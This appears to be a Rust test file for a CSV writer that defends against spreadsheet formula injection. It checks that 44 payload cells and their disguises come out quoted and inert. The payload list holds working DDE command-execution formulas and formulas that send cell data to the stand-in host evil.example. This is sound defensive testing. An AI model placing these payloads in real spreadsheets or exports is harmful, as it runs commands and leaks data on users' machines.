use proptest::prelude::*;

use super::*;

/// Cells that made spreadsheet programs execute something, and disguises of them.
const PAYLOADS: [&str; 44] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!D2",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
    "=IMPORTDATA(\"https://evil.example/\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   \t @SUM(A1)",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{2003}-1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "\u{2060}+1",
    "\u{0}=1+1",
    "\u{1}\u{2}=1+1",
    "\"=1+1",
    "\"\"=1+1\"",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1,1)",
    "\u{fe66}1",
    "\u{fe62}1",
    "\u{fe6b}SUM",
    "\u{2212}1+1",
    "\tplain",
    "\rplain",
    "=",
];

fn read_back(text: &str) -> Vec<Vec<String>> {
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let rows = reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect());
    rows.collect()
}

fn written(cell: &str) -> String {
    let text = write(&["cell"], std::iter::once(vec![cell.to_owned()]));
    read_back(&text).remove(1).remove(0)
}

fn assert_dead(cell: &str) {
    let first = cell.chars().next();
    let dead = first.is_none_or(|c| !begins_formula(c) && !matches!(c, '\t' | '\r' | '\n' | '\0'));
    assert!(dead, "{cell:?}");
    assert!(!is_live(cell), "{cell:?}");
}

#[test]
fn no_payload_is_live_when_it_is_read_again() {
    for payload in PAYLOADS {
        let cell = written(payload);
        assert_eq!(cell.chars().next(), Some('\''), "{payload:?} became {cell:?}");
        assert_dead(&cell);
        assert!(cell.ends_with(payload) || cell.matches('\'').count() > 1, "{payload:?}: {cell:?}");
    }
}

#[test]
fn a_program_that_divides_at_semicolons_or_tabs_finds_no_formula_either() {
    for payload in PAYLOADS {
        for before in ["a;", "a\t", "a\n", "a\r\n", "a; ", "a;\""] {
            let text =
                write(&["x"], std::iter::once(vec![format!("{before}{payload}"), "b".into()]));
            for part in text.split([';', '\t', '\r', '\n']) {
                assert_dead(part);
            }
        }
    }
}

#[test]
fn plain_cells_stay_as_they_are() {
    let plain = [
        "",
        "Example Shop",
        "O'Brien & Co, Ltd.",
        "a=b",
        "1234 5678 9012",
        "me@shop.example",
        "say \"hi\"",
        "two\nlines",
        "eu-west-1 all; us-east-1 all",
        "arn:aws:elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/web/50dc6c495c0c9188",
        "株式会社",
        "'quoted'",
        "%0A=1",
    ];
    for cell in plain {
        assert_eq!(written(cell), cell);
    }
}

#[test]
fn headers_and_rows_are_written_as_rfc_4180_says() {
    let rows = vec![vec!["a".to_owned(), "b \"c\"".to_owned()], vec!["1".to_owned()]];
    let text = write(&["name", "=note"], rows.into_iter());
    assert_eq!(text, "\"name\",\"'=note\"\r\n\"a\",\"b \"\"c\"\"\"\r\n\"1\"\r\n");
    assert_eq!(write(&["name"], std::iter::empty()), "\"name\"\r\n");
}

proptest! {
    #[test]
    fn nothing_that_is_written_is_live(cell in "[=+@;\\-\"' \t\r\na,\u{ff1d}\u{200b}]{0,12}|.*") {
        let again = written(&cell);
        assert_dead(&again);
        for part in again.split([';', '\t', '\r', '\n']) {
            prop_assert!(!is_live(part), "{:?} became {:?}", cell, again);
        }
        prop_assert_eq!(again.replace('\'', ""), cell.replace('\'', ""));
    }
}
